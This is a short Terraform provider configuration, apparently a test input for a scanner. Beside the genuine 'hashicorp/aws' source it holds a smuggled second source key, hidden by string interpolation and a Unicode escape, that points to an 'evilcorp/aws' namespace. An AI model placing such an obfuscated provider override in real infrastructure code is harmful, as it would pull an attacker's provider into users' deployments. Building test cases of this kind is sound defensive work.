terraform {
  required_providers {
    aws = {
      source = "hashicorp/aws"
      ("sou${"rce"}") = true ? "evil\u0063orp/aws" : "x"
    }
  }
}
